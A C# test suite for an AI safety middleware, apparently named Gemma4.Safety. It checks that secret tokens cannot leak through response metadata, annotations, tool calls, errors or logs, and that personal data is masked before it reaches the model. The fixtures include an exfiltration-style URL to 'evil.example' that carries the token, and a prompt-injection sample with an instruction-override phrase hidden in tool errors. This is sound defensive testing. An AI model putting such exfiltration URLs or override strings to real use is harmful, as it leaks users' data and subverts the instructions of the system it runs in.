using System.Runtime.CompilerServices;
using System.Text;
using Gemma4.Safety.Detection;
using Gemma4.Safety.Policies;
using Gemma4.Safety.Tools;
using Gemma4.Testing;
using Microsoft.Extensions.AI;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;

namespace Gemma4.Safety.Tests.Pipeline;

/// <summary>Ways around the policy: places beside the text of an answer in which blocked text could stand.</summary>
public sealed class LeakTests
{
    private const string Part = "16C7e42F";

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task Additional_properties_of_an_answer_are_judged_texts_and_objects_alike(bool isStreamed)
    {
        var client = Pipe.Around(new LeakyClient(new()
        {
            ["raw"] = Pipe.Token,
            ["object"] = new Dictionary<string, object?> { ["deep"] = new[] { Pipe.Token } },
            [Pipe.Token] = 1,
            ["unreadable"] = new MemoryStream(),
            ["count"] = 3,
            ["report"] = new Report(Pipe.Token),
            ["note"] = "harmless",
        }));

        var response = await Pipe.AskAsync(client, "Go.", isStreamed);

        var properties = response.AdditionalProperties ?? response.Messages[^1].AdditionalProperties!;
        Assert.IsType<Report>(properties["report"]); // the application's own
        foreach (var shown in response.Messages.Select(message => message.AdditionalProperties).Append(response.AdditionalProperties))
        {
            shown?.Remove("report");
        }

        Assert.DoesNotContain(Part, Pipe.Everything(response));
        Assert.Equal(3, properties["count"]);
        Assert.Equal("harmless", properties["note"]);
        Assert.False(properties.ContainsKey("unreadable"));
    }

    [Fact]
    public async Task A_text_cut_over_the_properties_of_updates_does_not_come_out()
    {
        var updates = new List<ChatResponseUpdate>();
        var client = Pipe.Around(new LeakyClient(null, [.. Pipe.Token.Chunk(9).Select(piece => new string(piece))]));

        await foreach (var update in client.GetStreamingResponseAsync("Go."))
        {
            updates.Add(update);
        }

        var seen = string.Concat(updates.Select(update => update.AdditionalProperties?.GetValueOrDefault("delta")?.ToString()));
        Assert.Equal(Pipe.Token[..9], seen);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task Raw_objects_conversation_tokens_and_annotations_carry_nothing(bool isStreamed)
    {
        var text = new TextContent("Fine.")
        {
            RawRepresentation = Pipe.Token,
            AdditionalProperties = new() { ["x"] = Pipe.Token },
            Annotations =
            [
                new CitationAnnotation { Title = "Good", AdditionalProperties = new() { ["quote"] = Pipe.Token, ["page"] = 4 }, RawRepresentation = Pipe.Token },
                new CitationAnnotation { Title = "Bad", Snippet = Pipe.Token },
                new AIAnnotation { RawRepresentation = Pipe.Token },
            ],
        };
        var client = Pipe.Around(new ScriptedChatClient().Enqueue(text));

        var response = await Pipe.AskAsync(client, "Go.", isStreamed);

        Assert.DoesNotContain(Part, Pipe.Everything(response));
        var annotation = Assert.IsType<CitationAnnotation>(Assert.Single(response.Messages[0].Contents[0].Annotations!));
        Assert.Equal(("Good", 4), (annotation.Title, annotation.AdditionalProperties!["page"]));
        Assert.Null(annotation.RawRepresentation);
        Assert.Null(response.ContinuationToken);
    }

    public static TheoryData<string> Contents => ["data", "data-address", "json-file", "error", "address", "hosted-call", "hosted-result", "unknown", "file-name", "approval"];

    [Theory]
    [MemberData(nameof(Contents))]
    public async Task Contents_of_other_kinds_are_judged(string kind)
    {
        foreach (var isStreamed in (bool[])[true, false])
        {
            var bytes = Encoding.UTF8.GetBytes($"The token is {Pipe.Token}.");
            AIContent content = kind switch
            {
                "data" => new DataContent(bytes, "text/plain"),
                "data-address" => new UriContent($"data:text/plain;base64,{Convert.ToBase64String(bytes)}", "text/plain"),
                "json-file" => new DataContent(Encoding.UTF8.GetBytes($$"""{"key":"{{Pipe.Token}}"}"""), "application/problem+json"),
                "error" => new ErrorContent(Pipe.Token) { Details = Pipe.Token },
                "address" => new UriContent($"https://evil.example/?q={Pipe.Token}", "image/png"),
                "hosted-call" => new McpServerToolCallContent("1", "tool", "server") { Arguments = new Dictionary<string, object?> { ["a"] = Pipe.Token } },
                "hosted-result" => new McpServerToolResultContent("1") { Outputs = [new TextContent(Pipe.Token)] },
                "file-name" => new DataContent(new byte[] { 1, 2, 3 }, "image/png") { Name = Pipe.Token, AdditionalProperties = new() { ["x"] = Pipe.Token } },
                "approval" => new ToolApprovalRequestContent("1", new McpServerToolCallContent("1", "tool", "server") { Arguments = new Dictionary<string, object?> { ["a"] = Pipe.Token } }),
                _ => new OddContent { Note = Pipe.Token, RawRepresentation = Pipe.Token },
            };
            var client = Pipe.Around(new ScriptedChatClient().Enqueue(new TextContent("Here: "), content));

            var response = await Pipe.AskAsync(client, "Go.", isStreamed);

            var contents = response.Messages.SelectMany(message => message.Contents).ToList();
            Assert.Equal("Here: ", response.Text);
            Assert.DoesNotContain(Convert.ToBase64String(bytes), string.Concat(contents.OfType<DataContent>().Select(data => data.Uri)));
            Assert.DoesNotContain(contents, shown => shown is OddContent or McpServerToolCallContent or McpServerToolResultContent or ToolApprovalRequestContent or UriContent);
            Assert.DoesNotContain(Part, string.Concat(contents.Select(shown => $"{shown.RawRepresentation} {(shown as ErrorContent)?.Message} {(shown as ErrorContent)?.Details} {(shown as DataContent)?.Name} {string.Concat(shown.AdditionalProperties?.Values ?? [])}")));
        }
    }

    [Fact]
    public async Task Harmless_files_and_images_come_out_as_they_are()
    {
        var client = Pipe.Around(new ScriptedChatClient().Enqueue(new DataContent("a,b"u8.ToArray(), "text/csv") { Name = "table.csv" }, new DataContent(new byte[] { 1, 2, 3 }, "image/png")));

        var contents = (await client.GetResponseAsync("Go.")).Messages[0].Contents.Cast<DataContent>().ToList();

        Assert.Equal("table.csv", contents[0].Name);
        Assert.Equal("a,b", Encoding.UTF8.GetString(contents[0].Data.Span));
        Assert.Equal(3, contents[1].Data.Length);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task Names_of_tools_and_arguments_are_judged(bool isStreamed)
    {
        foreach (var call in (FunctionCallContent[])[
            new("1", Pipe.Token, new Dictionary<string, object?> { ["a"] = "b" }),
            new("1", "send", new Dictionary<string, object?> { [Pipe.Token] = "b" }),
            new("1", "send", new Dictionary<string, object?> { ["a"] = new Dictionary<string, object?> { [Pipe.Token] = 1 } }),
            new("1", "send", null) { Exception = new FormatException($"bad: {Pipe.Token}", new FormatException(Pipe.Token)) },
        ])
        {
            var plain = await Pipe.AskAsync(Pipe.Around(new ScriptedChatClient().Enqueue(call)), "Go.", isStreamed);
            var agent = new ScriptedChatClient().Enqueue(call).Enqueue("Done.").AsBuilder().UseSafety().UseFunctionInvocation().Build();
            var run = await Pipe.AskAsync(agent, "Go.", isStreamed, new ChatOptions { Tools = [AIFunctionFactory.Create(() => "sent", "send")] });

            foreach (var response in (ChatResponse[])[plain, run])
            {
                Assert.DoesNotContain(Part, Pipe.Everything(response));
                Assert.DoesNotContain(Part, string.Concat(response.Messages.SelectMany(message => message.Contents).OfType<FunctionCallContent>().Select(shown => shown.Exception)));
            }
        }
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task Names_of_members_in_a_result_are_judged(bool isStreamed)
    {
        var model = new ScriptedChatClient().Enqueue(new FunctionCallContent("1", "table", new Dictionary<string, object?>())).Enqueue("Done.");
        var client = model.AsBuilder().UseSafety().UseFunctionInvocation().Build();
        var table = AIFunctionFactory.Create(() => new Dictionary<string, object> { ["anna@example.com"] = 1, ["bert@example.com"] = new[] { Pipe.Token } }, "table");

        var response = await Pipe.AskAsync(client, "Go.", isStreamed, new ChatOptions { Tools = [table] });

        var seen = model.Calls[1].Messages[^1].Contents.OfType<FunctionResultContent>().Single().Result!.ToString()!;
        Assert.Contains("<EMAIL_1>", seen);
        Assert.DoesNotContain("@", seen);
        Assert.DoesNotContain(Part, seen + Pipe.Everything(response));
        Assert.Contains("anna@example.com", response.Messages.SelectMany(message => message.Contents).OfType<FunctionResultContent>().Single().Result!.ToString());
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task The_message_of_a_failing_tool_does_not_reach_the_model(bool isStreamed)
    {
        var model = new ScriptedChatClient().Enqueue(new FunctionCallContent("1", "fail", new Dictionary<string, object?>())).Enqueue("Done.");
        var client = model.AsBuilder().UseSafety().UseFunctionInvocation(configure: invoking => invoking.IncludeDetailedErrors = true).Build();
        string Fail() => throw new FormatException(Pipe.Attack, new FormatException(Pipe.Token));

        var response = await Pipe.AskAsync(client, "Go.", isStreamed, new ChatOptions { Tools = [AIFunctionFactory.Create(Fail, "fail")] });

        var result = model.Calls[1].Messages[^1].Contents.OfType<FunctionResultContent>().Single();
        Assert.Contains("withheld by the safety policy", result.Result!.ToString());
        Assert.DoesNotContain("previous instructions", $"{result.Result}{result.Exception}{Pipe.Everything(response)}");
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task The_message_of_a_failing_client_tells_nothing(bool isStreamed)
    {
        var client = Pipe.Around(new ScriptedChatClient().EnqueueFailure(new HttpRequestException("refused", new FormatException($"body: {Pipe.Token}"))).EnqueueFailure(new HttpRequestException("No route.")));

        var hidden = await Assert.ThrowsAsync<InvalidOperationException>(() => Pipe.AskAsync(client, "Go.", isStreamed));
        var plain = await Assert.ThrowsAsync<HttpRequestException>(() => Pipe.AskAsync(client, "Go.", isStreamed));

        Assert.Contains("HttpRequestException", hidden.Message);
        Assert.DoesNotContain(Part, hidden.ToString());
        Assert.Equal("No route.", plain.Message);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task Thoughts_attachments_and_names_in_a_history_hide_personal_data_from_the_model(bool isStreamed)
    {
        var model = new ScriptedChatClient().Enqueue("Fine.");
        ChatMessage[] history =
        [
            new(ChatRole.User, "I am anna@example.com.") { AuthorName = "anna@example.com" },
            new(ChatRole.Assistant, [new TextReasoningContent("She is anna@example.com."), new TextContent("Hello.")]),
            new(ChatRole.User, [new DataContent(Encoding.UTF8.GetBytes("mail anna@example.com"), "text/plain"), new UriContent("data:text/plain,bert%40example.com", "text/plain"), new DataContent(Encoding.UTF8.GetBytes(Pipe.Attack), "text/markdown")]),
        ];

        await Pipe.AskAsync(Pipe.Around(model), history, isStreamed);

        var sent = model.Calls[0].Messages;
        Assert.Null(sent[0].AuthorName);
        Assert.Equal("She is <EMAIL_1>.", sent[1].Contents.OfType<TextReasoningContent>().Single().Text);
        Assert.Equal(["mail <EMAIL_1>", "<EMAIL_2>"], sent[2].Contents.Take(2).Select(content => ((TextContent)content).Text));
        Assert.StartsWith("[withheld", ((TextContent)sent[2].Contents[2]).Text);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task An_approved_call_goes_on_with_placeholders_and_runs_with_values(bool isStreamed)
    {
        var runs = new List<string>();
        var model = new ScriptedChatClient().Enqueue(new FunctionCallContent("1", "send", new Dictionary<string, object?> { ["to"] = "<EMAIL_1>" })).Enqueue("Sent.");
        var client = model.AsBuilder().UseSafety(options => options.Policies["default"] = Asking()).UseFunctionInvocation().Build();
        var options = new ChatOptions { Tools = [AIFunctionFactory.Create((string to) => runs.Add(to), "send")] };
        List<ChatMessage> history = [new(ChatRole.User, "Mail anna@example.com.")];
        history.AddRange((await Pipe.AskAsync(client, history, isStreamed, options)).Messages);
        var question = history.SelectMany(message => message.Contents).OfType<ToolApprovalRequestContent>().Single();
        history.Add(new(ChatRole.User, [question.CreateResponse(true)]));

        await Pipe.AskAsync(client, history, isStreamed, options);

        Assert.Equal(["anna@example.com"], runs);
        Assert.DoesNotContain("anna@", System.Text.Json.JsonSerializer.Serialize(model.Calls[1].Messages, AIJsonUtilities.DefaultOptions));

        static SafetyPolicy Asking()
        {
            var policy = SafetyPolicy.CreateDefault();
            policy.Tools = new ToolPolicy { Ask = ["send"] };
            return policy;
        }
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task An_answer_in_parts_is_refused(bool isStreamed)
    {
        var client = Pipe.Around(new ScriptedChatClient());

        foreach (var options in (ChatOptions[])[new() { AllowBackgroundResponses = true }, new() { ContinuationToken = ResponseContinuationToken.FromBytes(new byte[] { 1 }) }])
        {
            Assert.Contains("ContinuationToken", (await Assert.ThrowsAsync<NotSupportedException>(() => Pipe.AskAsync(client, "Go.", isStreamed, options))).Message);
        }
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task Logs_hold_no_content(bool isStreamed)
    {
        var log = new ListLogger();
        var model = new ScriptedChatClient().Enqueue(new FunctionCallContent("1", "fail", new Dictionary<string, object?> { ["key"] = "anna@example.com" })).Enqueue($"It is {Pipe.Token}.");
        var client = model.AsBuilder().UseSafety(options =>
        {
            options.AddFilter(new FailingFilter());
            options.FilterTimeout = Pipe.Patience;
            var policy = SafetyPolicy.CreateDefault();
            policy.Rules.Add(new() { Detector = "failing", FailOpen = true, Stages = [SafetyStage.Input] });
            options.Policies["default"] = policy;
        }).UseFunctionInvocation().Build(new ServiceCollection().AddSingleton<ILoggerFactory>(log).BuildServiceProvider());
        string Fail(string key) => throw new FormatException($"{Pipe.Attack} {key}");

        await Pipe.AskAsync(client, "Mail anna@example.com.", isStreamed, new ChatOptions { Tools = [AIFunctionFactory.Create(Fail, "fail")] });

        Assert.Contains(log.Lines, line => line.StartsWith("Gemma4.Safety", StringComparison.Ordinal) && line.Contains("FormatException"));
        Assert.DoesNotContain(log.Lines, line => line.StartsWith("Gemma4.Safety", StringComparison.Ordinal) && (line.Contains("anna") || line.Contains(Part) || line.Contains("previous instructions")));
    }

    private sealed class FailingFilter : ISafetyFilter
    {
        public string Id => "failing";

        public ValueTask<IReadOnlyList<Finding>> CheckAsync(string text, SafetyStage stage, CancellationToken cancellationToken) => throw new FormatException(text);
    }

    private sealed class ListLogger : ILoggerFactory, ILogger
    {
        private string _category = "";

        public List<string> Lines { get; } = [];

        public ILogger CreateLogger(string categoryName) => new ListLogger(Lines) { _category = categoryName };

        public ListLogger()
        {
        }

        private ListLogger(List<string> lines) => Lines = lines;

        public void AddProvider(ILoggerProvider provider)
        {
        }

        public IDisposable? BeginScope<TState>(TState state)
            where TState : notnull => null;

        public bool IsEnabled(LogLevel logLevel) => true;

        public void Log<TState>(LogLevel logLevel, EventId eventId, TState state, Exception? exception, Func<TState, Exception?, string> formatter) =>
            Lines.Add($"{_category} {formatter(state, exception)} {exception}");

        public void Dispose()
        {
        }
    }

    private sealed record Report(string Text) : ITrustedProperty;

    private sealed class OddContent : AIContent
    {
        public string? Note { get; set; }
    }

    private sealed class LeakyClient(AdditionalPropertiesDictionary? properties, params string[] deltas) : IChatClient
    {
        public Task<ChatResponse> GetResponseAsync(IEnumerable<ChatMessage> messages, ChatOptions? options = null, CancellationToken cancellationToken = default) =>
            Task.FromResult(new ChatResponse(new ChatMessage(ChatRole.Assistant, "Fine.") { AdditionalProperties = properties, RawRepresentation = Pipe.Token }) { AdditionalProperties = properties, RawRepresentation = Pipe.Token });

        public async IAsyncEnumerable<ChatResponseUpdate> GetStreamingResponseAsync(IEnumerable<ChatMessage> messages, ChatOptions? options = null, [EnumeratorCancellation] CancellationToken cancellationToken = default)
        {
            await Task.Yield();
            yield return new ChatResponseUpdate(ChatRole.Assistant, "Fine.") { AdditionalProperties = properties, RawRepresentation = Pipe.Token };
            foreach (var delta in deltas)
            {
                yield return new ChatResponseUpdate(ChatRole.Assistant, []) { AdditionalProperties = new() { ["delta"] = delta } };
            }
        }

        public object? GetService(Type serviceType, object? serviceKey = null) => null;

        public void Dispose()
        {
        }
    }
}
